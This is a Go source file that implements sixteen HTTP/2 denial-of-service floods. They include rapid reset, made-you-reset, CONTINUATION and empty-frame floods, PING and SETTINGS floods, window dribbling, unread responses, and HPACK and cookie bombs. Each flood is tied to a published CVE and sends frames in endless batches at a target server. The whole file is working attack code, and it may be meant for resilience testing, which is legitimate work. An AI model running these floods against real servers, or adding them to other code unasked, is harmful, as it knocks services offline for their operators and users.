//go:build linux

package main

import (
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A flood is one way to wear an HTTP/2 server out.
type flood struct {
	name   string
	title  string
	source string                  // where it was published
	window uint32                  // what the attacker lets the server send on a stream
	unread bool                    // the attacker reads nothing
	run    func(a *attacker) error // until the connection ends
}

// floodBatch is how many frames or streams leave in one write.
const floodBatch = 64

func floods() []flood {
	return []flood{
		{"rapid-reset", "requests reset at once", "CVE-2023-44487", h2FirstWindow, false, rapidReset},
		{"made-you-reset", "requests that make the server reset", "CVE-2025-8671", h2FirstWindow, false, madeYouReset},
		{"malformed", "malformed requests", "CVE-2019-9514", h2FirstWindow, false, malformed},
		{"continuation", "a field section without end", "CVE-2024-27316", h2FirstWindow, false, endlessSection},
		{"empty-continuation", "empty CONTINUATION frames", "CVE-2019-9518", h2FirstWindow, false, emptyContinuations},
		{"empty-data", "empty DATA frames", "CVE-2019-9518", h2FirstWindow, false, emptyData},
		{"empty-fields", "fields without name and value", "CVE-2019-9516", h2FirstWindow, false, emptyFields},
		{"ping", "PING, answers unread", "CVE-2019-9512", h2FirstWindow, true, pings},
		{"settings", "SETTINGS, answers unread", "CVE-2019-9515", h2FirstWindow, true, settingsFlood},
		{"priority", "PRIORITY churn", "CVE-2019-9513", h2FirstWindow, false, priorities},
		{"window-update", "WINDOW_UPDATE that nothing calls for", "CVE-2019-9511", h2FirstWindow, false, windowUpdates},
		{"dribble", "64 KiB responses through a window of a byte at a time", "CVE-2019-9511", 0, false, dribble},
		{"unread", "64 KiB responses into a socket nobody reads", "CVE-2019-9517", h2MaxWindow, true, unread},
		{"hpack-bomb", "large table entries referred to over and over, windows stalled", "CVE-2016-6581", 0, false, hpackBomb},
		{"cookie-bomb", "cookie crumbs of a byte each, windows stalled", "CVE-2026-49975", 0, false, cookieBomb},
		{"stalled", "requests just below the limits, windows stalled", "CVE-2026-49975", 0, false, stalled},
	}
}

// repeat calls f for a batch of frames at a time and sends them.
func (a *attacker) repeat(f func()) error {
	for {
		for range floodBatch {
			f()
		}
		if err := a.flush(); err != nil {
			return err
		}
	}
}

func rapidReset(a *attacker) error {
	return a.repeat(func() {
		id := a.open(a.section(request("GET", "/100")...), true)
		a.raw(http2.FrameRSTStream, 0, id, []byte{0, 0, 0, byte(http2.ErrCodeCancel)})
	})
}

func madeYouReset(a *attacker) error {
	return a.repeat(func() {
		id := a.open(a.section(request("GET", "/100")...), true)
		a.raw(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) // an increment of 0 (RFC 9113 section 6.9)
	})
}

func malformed(a *attacker) error {
	return a.repeat(func() { a.open(a.section(hpack.HeaderField{Name: "UPPER", Value: "case"}), true) })
}

func endlessSection(a *attacker) error {
	id := a.stream()
	a.raw(http2.FrameHeaders, 0, id, a.section(request("GET", "/100")...))
	block := []byte(strings.Repeat("\x00\x01a\x10bbbbbbbbbbbbbbbb", 800))
	return a.repeat(func() { a.raw(http2.FrameContinuation, 0, id, block) })
}

func emptyContinuations(a *attacker) error {
	id := a.stream()
	a.raw(http2.FrameHeaders, 0, id, a.section(request("GET", "/100")...))
	return a.repeat(func() { a.raw(http2.FrameContinuation, 0, id, nil) })
}

func emptyData(a *attacker) error {
	id := a.open(a.section(request("POST", "/100")...), false)
	return a.repeat(func() { a.raw(http2.FrameData, 0, id, nil) })
}

func emptyFields(a *attacker) error {
	block := append(a.section(request("GET", "/100")...), strings.Repeat("\x00\x00\x00", 4000)...)
	return a.repeat(func() { a.open(block, true) })
}

func pings(a *attacker) error {
	return a.repeat(func() { a.raw(http2.FramePing, 0, 0, make([]byte, 8)) })
}

func settingsFlood(a *attacker) error {
	return a.repeat(func() { a.raw(http2.FrameSettings, 0, 0, setting(nil, http2.SettingInitialWindowSize, h2FirstWindow)) })
}

// priorities hangs idle streams below one another in ever new ways.
func priorities(a *attacker) error {
	n := uint32(1)
	return a.repeat(func() {
		n = n*1664525 + 1013904223
		a.raw(http2.FramePriority, 0, n>>8&0xffff|1, append(binary.BigEndian.AppendUint32(nil, n>>16&0xfffe), byte(n)))
	})
}

func windowUpdates(a *attacker) error {
	id := a.open(a.section(request("POST", "/100")...), false)
	return a.repeat(func() { a.raw(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 1}) })
}

// dribble asks for large responses and takes a byte of each in turn.
func dribble(a *attacker) error {
	ids := a.many(request("GET", "/64k"))
	i := 0
	return a.repeat(func() {
		a.raw(http2.FrameWindowUpdate, 0, ids[i%len(ids)], []byte{0, 0, 0, 1})
		i++
	})
}

// many asks for as many streams as servers commonly allow.
func (a *attacker) many(fields []hpack.HeaderField) (ids []uint32) {
	for range 100 {
		ids = append(ids, a.open(a.section(fields...), true))
	}
	return ids
}

// unread asks for more than fits into the sockets and waits for the server to give up.
func unread(a *attacker) error {
	_ = a.framer.WriteWindowUpdate(0, h2MaxWindow-h2FirstWindow)
	a.many(request("GET", "/64k"))
	if err := a.flush(); err != nil {
		return err
	}
	return a.idle()
}

// hpackBomb puts a field of almost the whole table there and refers to it as often as a
// frame has room.
func hpackBomb(a *attacker) error {
	return a.bomb(hpack.HeaderField{Name: "x", Value: strings.Repeat("b", 3900)}, 8<<10)
}

// cookieBomb does so with a field that hardly has a value: what it costs is bookkeeping.
func cookieBomb(a *attacker) error {
	return a.bomb(hpack.HeaderField{Name: "cookie", Value: "a"}, 15<<10)
}

func (a *attacker) bomb(f hpack.HeaderField, times int) error {
	a.open(a.section(append(request("GET", "/64k"), f)...), true)
	block := a.section(append(request("GET", "/64k"), f)...)
	reference := block[len(block)-1:]
	for range times {
		block = append(block, reference...)
	}
	for range 99 {
		a.open(block, true)
		if err := a.flush(); err != nil {
			return err
		}
	}
	return a.hold()
}

// stalled asks for large responses, each request as large as a server commonly takes, and
// takes nothing.
func stalled(a *attacker) error {
	fields := request("GET", "/64k")
	for range 80 {
		fields = append(fields, hpack.HeaderField{Name: "x-large", Value: strings.Repeat("l", 400)})
	}
	a.many(fields)
	if err := a.flush(); err != nil {
		return err
	}
	return a.hold()
}
